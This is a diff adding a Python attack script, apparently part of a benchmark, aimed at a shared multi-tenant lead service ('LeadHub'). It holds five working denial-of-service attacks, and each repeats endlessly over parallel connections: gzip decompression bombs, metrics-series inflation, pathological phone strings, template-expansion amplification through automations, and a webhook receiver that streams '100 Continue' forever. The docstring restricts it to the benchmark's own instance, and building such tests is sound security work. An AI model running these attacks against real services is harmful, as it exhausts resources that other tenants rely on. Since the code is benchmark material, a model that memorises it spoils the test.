@@ -1,0 +1,133 @@
+"""Attacks of one workspace, or of a stranger, on the service that others share. Only against a LeadHub of the
+benchmark's own."""
+
+import asyncio
+import json
+import sys
+import zlib
+from collections.abc import Awaitable, Callable, Coroutine
+from contextlib import suppress
+from dataclasses import dataclass
+from typing import Any
+
+import aiohttp
+
+ENDED = (aiohttp.ClientError, OSError, TimeoutError)
+PHONE = "0001" + " " * 80 + "ext" + " " * 160 + "x1"
+STEPS = 100
+STREAM_PIECE = b"HTTP/1.1 100 Continue\r\n\r\n" * 4096
+
+
+@dataclass(frozen=True)
+class Target:
+    """The service under attack. `key` is the attacking workspace's, `port` is free for a server of the attack's own."""
+
+    base: str
+    metrics: str
+    tenant: str
+    key: str
+    port: int
+
+    @property
+    def inbound(self) -> str:
+        return f"{self.base}/api/inbound/leads?tenant={self.tenant}"
+
+    @property
+    def headers(self) -> dict[str, str]:
+        return {"Authorization": f"Bearer {self.key}"}
+
+
+async def post_compressed(target: Target) -> None:
+    """Strangers post 3 MB of gzip, which inflate to 700 MB, over 40 connections."""
+    packer, body = zlib.compressobj(1, wbits=31), b""
+    while len(body) < 3 << 20:
+        body += packer.compress(bytes(16 << 20))
+    await _in_parallel(
+        40, lambda session: session.post(target.inbound, data=body, headers={"Content-Encoding": "gzip"})
+    )
+
+
+async def read_metrics(target: Target) -> None:
+    """Strangers read the metrics without pause over 16 connections, after many series were made."""
+    async with aiohttp.ClientSession() as session:
+        for number in range(2000):
+            with suppress(*ENDED):
+                await (await session.request(f"M{number}", f"{target.base}/api/v1/leads")).release()
+    await _in_parallel(16, lambda session: session.get(target.metrics))
+
+
+async def post_phones(target: Target) -> None:
+    """One workspace posts batches of 1,000 leads whose phones are all blanks and extensions."""
+    batch = [{"email": f"p{number}@attack.example.com", "phone": PHONE} for number in range(1000)]
+    url = target.inbound.replace("?", "/batch?")
+    headers = {**target.headers, "Prefer": "respond-async"}
+    await _in_parallel(2, lambda session: session.post(url, json=batch, headers=headers))
+
+
+async def run_templates(target: Target) -> None:
+    """One workspace's automations fill 100 templates with a lead of 250 KB."""
+    step = {"action": {"type": "create_task", "title": "{{ custom_fields|title }}"}}
+    automation = {"name": "Attack", "trigger": {"type": "lead_created"}, "steps": [step] * STEPS}
+    fields = {f"field_{number}": "word " * 480 for number in range(100)}
+    async with aiohttp.ClientSession(headers=target.headers) as session:
+        for _ in range(5):
+            answer = await session.post(f"{target.base}/api/v1/automations", json=automation)
+            if answer.status != 201:
+                print("refused:", answer.status, await answer.text(), file=sys.stderr)
+    headers = {**target.headers, "Prefer": "respond-async"}
+    emails = (f"t{number}@attack.example.com" for number in range(10**9))
+
+    def post(session: aiohttp.ClientSession) -> Awaitable[aiohttp.ClientResponse]:
+        lead = {"email": next(emails), "custom_fields": fields}
+        return session.post(target.inbound, json=lead, headers=headers)
+
+    await _in_parallel(2, post, pause=0.2)
+
+
+async def stream_informational(target: Target) -> None:
+    """One workspace's webhook receiver answers with `100 Continue` without end."""
+
+    async def stream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with suppress(*ENDED):
+            await reader.readuntil(b"\r\n\r\n")
+            while True:
+                writer.write(STREAM_PIECE)
+                await writer.drain()
+
+    await asyncio.start_server(stream, "127.0.0.1", target.port)
+    async with aiohttp.ClientSession(headers=target.headers) as session:
+        subscription = {"url": f"http://127.0.0.1:{target.port}/", "events": ["lead.created"]}
+        await session.post(f"{target.base}/api/v1/webhooks", json=subscription)
+        for number in range(10**9):
+            with suppress(*ENDED):
+                await session.post(target.inbound, json={"email": f"c{number}@attack.example.com"})
+            await asyncio.sleep(0.1)
+
+
+ATTACKS: dict[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
+    "compressed bodies": post_compressed,
+    "metrics": read_metrics,
+    "phones": post_phones,
+    "templates": run_templates,
+    "informational answers": stream_informational,
+}
+
+
+async def _in_parallel(
+    connections: int, request: Callable[[aiohttp.ClientSession], Awaitable[aiohttp.ClientResponse]], pause: float = 0
+) -> None:
+    """Send requests over so many connections until this process is ended."""
+
+    async def repeat() -> None:
+        while True:
+            with suppress(*ENDED):
+                answer = await request(session)
+                await answer.read()
+            await asyncio.sleep(pause)
+
+    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session:
+        await asyncio.gather(*(repeat() for _ in range(connections)))
+
+
+if __name__ == "__main__":
+    asyncio.run(ATTACKS[sys.argv[1]](Target(**json.loads(sys.argv[2]))))
